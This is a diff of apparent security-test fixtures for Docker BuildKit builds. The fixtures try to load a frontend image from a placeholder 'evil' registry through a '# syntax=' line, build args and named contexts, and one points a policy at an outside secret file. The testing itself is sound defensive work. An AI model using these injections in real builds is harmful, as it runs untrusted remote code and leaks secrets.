-            .with("app/Dockerfile", "# syntax=@BELL@/evil/frontend:1\nFROM @BASE@\n")
+        Fixture::json("frontend_comment", "the same by `# syntax=`", Connected, json!({}))
+            .with("app/Dockerfile", "# syntax=@CANARY@/evil/frontend:1\nFROM @BASE@\n")
             .account("pinned"),
         Fixture::json(
             "frontend_in_key",
             "the same by a name that is an expression",
-            Rang,
-            json!({"args": {"${upper(\"buildkit_syntax\")}": "@BELL@/evil/frontend:1"}}),
+            Connected,
+            json!({"args": {"${upper(\"buildkit_syntax\")}": "@CANARY@/evil/frontend:1"}}),
         )
         .account("pinned"),
         Fixture::json(
             "frontend_context",
             "the same by a named context in place of the pinned one",
-            Rang,
+            Connected,
             json!({
                 "args": {"BUILDKIT_SYNTAX": "@FRONTEND@"},
-                "contexts": {"@FRONTEND@": "docker-image://@BELL@/evil/frontend:1"},
+                "contexts": {"@FRONTEND@": "docker-image://@CANARY@/evil/frontend:1"},
             }),
         )
         .account("pinned"),
-        Fixture::json("call", "no build but a question", Told, json!({"call": "outline"}))
-            .harmless("the answer is about the Dockerfile, and reaches nothing"),
+        Fixture::json("call", "a query instead of a build", Leaked, json!({"call": "outline"}))
+            .harmless("the answer describes the Dockerfile and reaches nothing"),
         Fixture::json(
             "policy",
-            "a policy of the repository's own",
-            Told,
+            "the repository's own policy",
+            Leaked,
             json!({"policy": [{"filename": "@OUTSIDE@/secret"}]}),
         )
         .harmless("buildx before 0.31 does not know the field"),
